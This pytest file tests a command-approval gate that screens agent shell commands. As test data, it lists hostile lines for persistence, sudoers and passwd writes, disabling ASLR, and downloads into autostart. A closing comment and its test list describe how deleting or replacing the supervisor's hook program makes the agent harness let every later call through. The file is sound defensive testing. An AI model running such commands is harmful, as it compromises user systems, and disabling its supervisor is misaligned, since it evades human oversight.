"""The gate's nineteenth round: a file named from the folder a ``cd`` took its command to,
and the trees the eighteenth round's extractors left out.

A write's target was judged as written, from the turn's own folder: ``cd ~ && cp x
.bashrc`` asked only because ``.bashrc`` is a start-up file by its name alone. A name
that is a start-up place, a sensitive file or a protected file only in its folder was
approved in a manual profile: ``cd ~/.config/autostart && cp x x.desktop``, ``cd
.git/hooks && cp x pre-commit``, ``cd /etc/sudoers.d && echo … > x``, ``cd /etc && echo
x > passwd``, ``cd /usr/local/bin && cp x git``. Each target is now also judged from
the folder the ``cd`` (or ``pushd``, or several) took its command to: ``persistence``,
``sensitive-write``, and ``protected-file`` for a protected glob with a folder in it
(``.github/workflows/*`` written by ``cd .github/workflows && cp x ci.yml``).

A tree written into the folder a command runs in was judged for ``tar``, ``unzip``,
``7z``, ``unrar``, ``cpio``, ``borg extract``, ``jar``, ``ar`` and the clones. These
were approved where a ``cd ~`` took them: ``lha x``, ``arj x|e``, ``cabextract``,
``unar``, ``aunpack`` without their folder options, ``patch -p1 < D`` and ``git
apply|am`` (the files the diff names, from there) and a recursive ``wget`` (the site's
tree); so were their folder options pointed at a start-up root (``lha xw=DIR``, ``arj x
A DIR``, ``cabextract -d DIR``, ``patch -d DIR``, ``wget -r -P DIR``). And ``uudecode``
without ``-o`` writes the file its input's header names, absolute or not: as ``tar -xP``,
``persistence`` wherever it runs; ``uudecode -o F`` writes ``F``.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from multiplex import Supervisor
from multiplex.shell import Place, find_protected_write, parse_line
from tests.shell._carriers import (
    HOME,
    assert_named,
    homes_fixture,
    judged,
    one_home,
    outcome,
    table_tests,
)

URL = "https://h.example/p"
NAMED_THERE = [
    "cd ~/.config/autostart && cp /tmp/x x.desktop",
    "cd ~/.config/autostart && echo hi > x.desktop",
    "cd ~/.config && cp /tmp/x autostart/x.desktop",
    f"cd ~/.config/autostart && curl -o x.desktop {URL}/x.desktop",
    f"cd ~/.config/autostart && curl -O {URL}/x.desktop",
    f"cd ~/.config/autostart && wget {URL}/x.desktop",
    "cd ~/.config/systemd/user && cp /tmp/x evil.service",
    "cd .git/hooks && cp /tmp/x pre-commit",
    "cd .git && cp /tmp/x hooks/pre-commit",
    "cd ~ && cd .config/autostart && cp /tmp/x x.desktop",
    "cd ~/.config/autostart; cp /tmp/x x.desktop",
    "pushd ~/.config/autostart && cp /tmp/x x.desktop",
    "cd $HOME/.config/autostart && tee x.desktop < /tmp/x",
    "cd ~/.local/lib/python3.11/site-packages && echo 'import os' > evil.pth",
]
SENSITIVE_THERE = [
    "cd /etc/sudoers.d && echo 'u ALL=(ALL) NOPASSWD:ALL' > x",
    "cd /etc && echo x > passwd",
    "cd /etc && echo '1.2.3.4 h.example' >> hosts",
    "cd /usr/local/bin && cp /tmp/x git",
    "cd /proc/sys/kernel && echo 0 > randomize_va_space",
    "cd / && cd etc && echo x > shadow",
]
NOT_NAMED_THERE = [
    "cd src && cp x y",
    "cd ~/.config/autostart && ls",
    "cd ~/.config/autostart && cat x.desktop",
    "cd .git && git status",
    "cd ~/.config && cp x myapp/settings.json",
    "cd build && echo x > out.txt",
    "cd ~ && echo hi > notes.txt",
    "cd .git/hooks && ls -la",
    "cd /tmp && cp x pre-commit",
    "cd /tmp && echo hi > x.desktop",
    "cd docs && cp x ../README.md",
    "cd /etc && cat passwd",
]
HERE = [
    "cd ~ && lha x dotfiles.lzh",
    "cd ~ && lha -x dotfiles.lzh",
    "cd ~ && lha e dotfiles.lzh",
    "cd ~ && arj x dotfiles.arj",
    "cd ~ && arj e dotfiles.arj",
    "cd ~ && cabextract dotfiles.cab",
    "cd ~ && unar dotfiles.zip",
    "cd ~ && aunpack dotfiles.tgz",
    "cd ~ && patch -p0 < x.diff",
    "cd ~ && patch -p 1 -i x.diff",
    "cd ~ && git apply x.patch",
    "cd ~ && git am x.mbox",
    "git -C ~ apply x.patch",
    "git -C ~ am x.mbox",
    f"cd ~ && wget -r -nH {URL}",
    f"cd ~ && wget -m {URL}",
    f"cd ~/.config && wget --recursive {URL}",
]
INTO = [
    "lha xw=~/.config/autostart x.lzh",
    "lha -xw=$HOME/.config/autostart x.lzh",
    "lha xw=.git/hooks x.lzh",
    "arj x x.arj ~/.config/autostart/",
    "arj e x.arj .git/hooks/",
    "cabextract -d ~/.config/autostart x.cab",
    "cabextract --directory=$HOME x.cab",
    "cabextract -d .git/hooks x.cab",
    "patch -d ~ -p1 < x.diff",
    "patch --directory=$HOME -p1 < x.diff",
    f"wget -r -P ~ {URL}",
    "unar -o ~ x.zip",
    "cd ~ && unar -o . x.zip",
    "aunpack -X ~/.config x.tgz",
    "uudecode -o .git/hooks/pre-commit x.uu",
    "uudecode -o ~/.bashrc x.uu",
]
ANYWHERE = [
    "uudecode payload.uu",
    "uudecode < payload.uu",
    "cat payload.uu | uudecode",
]
NOT_TREES = [
    "cd src && lha x x.lzh",
    "cd src && cabextract x.cab",
    "cabextract -l x.cab",
    "cd ~ && cabextract -l x.cab",
    "cd ~ && cabextract -t x.cab",
    "cd ~ && lha l x.lzh",
    "cd ~ && arj l x.arj",
    "cd ~ && unar -o build x.zip",
    "cd ~ && aunpack -X build x.tgz",
    "lha xw=build x.lzh",
    "cd src && patch -p1 < x.diff",
    "patch -p1 < x.diff",
    "git apply x.patch",
    "git apply --check x.patch",
    "cd ~ && git apply --stat x.patch",
    "cd ~ && git apply --cached x.patch",
    "cd ~ && git am --abort",
    "cd ~ && patch --dry-run -p1 < x.diff",
    f"wget -r -P build {URL}",
    f"wget -r {URL}",
    f"cd ~ && wget -O page.html {URL}",
    "uudecode -o out.bin payload.uu",
    "uudecode --output-file=build/x.bin payload.uu",
]

HOSTILE = [
    *((line, "persistence") for line in NAMED_THERE),
    *((line, "sensitive-write") for line in SENSITIVE_THERE),
    *((line, "persistence") for line in HERE),
    *((line, "persistence") for line in INTO),
    *((line, "persistence") for line in ANYWHERE),
    ("uudecode --output-file=AGENTS.md x.uu", "protected-file"),
    ("cabextract -d AGENTS.md x.cab", "protected-file"),
]
test_each_hostile_line_names_its_danger, test_each_plain_sibling_names_nothing = table_tests(
    HOSTILE, [*NOT_NAMED_THERE, *NOT_TREES]
)

sup = homes_fixture(
    "round19", ["cd *", "cp *", "tee *", "lha *", "cabextract *", "patch *", "uudecode *", "git *"]
)


@pytest.mark.parametrize(
    "line",
    [
        "cd ~/.config/autostart && cp /tmp/x x.desktop",
        "cd .git/hooks && tee pre-commit < /tmp/x",
        "cd ~ && lha x dotfiles.lzh",
        "cd ~ && patch -p1 < x.diff",
        "uudecode payload.uu",
        "cd ~ && git apply x.patch",
    ],
)
def test_an_allow_rule_never_vouches_for_them(sup: Supervisor, line: str) -> None:
    assert_named(sup, line, "persistence", profiles=("strict", "manual"))


@pytest.mark.parametrize(
    "line", ["cd src && cp x y", "cabextract -l x.cab", "patch -p1 < x.diff", "git apply x.patch"]
)
def test_their_plain_siblings_are_vouched_for(sup: Supervisor, line: str) -> None:
    assert outcome(sup, "strict", line) == "approved"


PLACE = Place(cwd=HOME + "/workspace", homes=("/root", HOME))
WORKFLOWS = (".github/workflows/*",)


@pytest.mark.parametrize(
    "line",
    [
        "cd .github/workflows && cp /tmp/x ci.yml",
        "cd .github && cp /tmp/x workflows/ci.yml",
        "cd src && cp /tmp/x ../.github/workflows/ci.yml",
        "cd .github && cd workflows && echo x > ci.yml",
        f"cd {HOME}/workspace/.github/workflows && cp /tmp/x ci.yml",
    ],
)
def test_a_protected_glob_with_a_folder_is_matched_from_where_a_cd_took_the_write(
    line: str,
) -> None:
    found = find_protected_write(parse_line(line), WORKFLOWS, PLACE)
    assert found is not None and found.pattern.name == "protected-file", line


@pytest.mark.parametrize(
    "line",
    [
        "cd .github && cp /tmp/x notes.md",
        "cd docs && cp /tmp/x workflows/ci.yml",
        "cd .github/workflows && cat ci.yml",
    ],
)
def test_other_writes_from_there_are_not_protected(line: str) -> None:
    assert find_protected_write(parse_line(line), WORKFLOWS, PLACE) is None, line


def test_the_gate_asks_for_a_protected_write_named_from_a_cd(tmp_path: Path) -> None:
    config = (
        "terminal:\n  cwd: .\ncommand_allowlist:\n  - 'cd *'\n  - 'cp *'\n"
        "approvals:\n  mode: strict\n  protected_files: ['.github/workflows/*']\n"
    )
    with one_home(tmp_path, config) as supervisor:
        asked = supervisor.test("p", "cd .github/workflows && cp /tmp/x ci.yml", context="api")
        assert asked.outcome.value == "ask"
        assert asked.trace[-1].step == "ask" and "protected file write" in [
            step.detail for step in asked.trace
        ]
        plain = supervisor.test("p", "cd .github && cp /tmp/x notes.md", context="api")
        assert plain.outcome.value == "approved"


# The virtual environment the supervisor runs from holds the program an agent's hook runs:
# removed, moved, made unexecutable or replaced, the hook exits 126/127 or prints nothing,
# and Claude Code lets every later call through. Each was approved in a manual profile.
VENV = sys.prefix
HOOK_PROGRAM = [
    f"mv {VENV} /tmp/v",
    f"rm {VENV}/bin/multiplex",
    f"cp /bin/true {VENV}/bin/multiplex",
    f"ln -sf /bin/true {VENV}/bin/multiplex",
    f"chmod -x {VENV}/bin/multiplex",
    f"rm -rf {VENV}",
]


@pytest.mark.skipif(sys.prefix == sys.base_prefix, reason="the supervisor runs from no venv")
@pytest.mark.parametrize("line", HOOK_PROGRAM)
def test_the_supervisors_own_program_is_its_control(line: str) -> None:
    assert "supervisor-control" in judged(line), (line, judged(line))


@pytest.mark.parametrize("line", [f"cat {VENV}/bin/multiplex", f"ls {VENV}/bin"])
def test_reading_it_is_not(line: str) -> None:
    assert judged(line) == [], (line, judged(line))
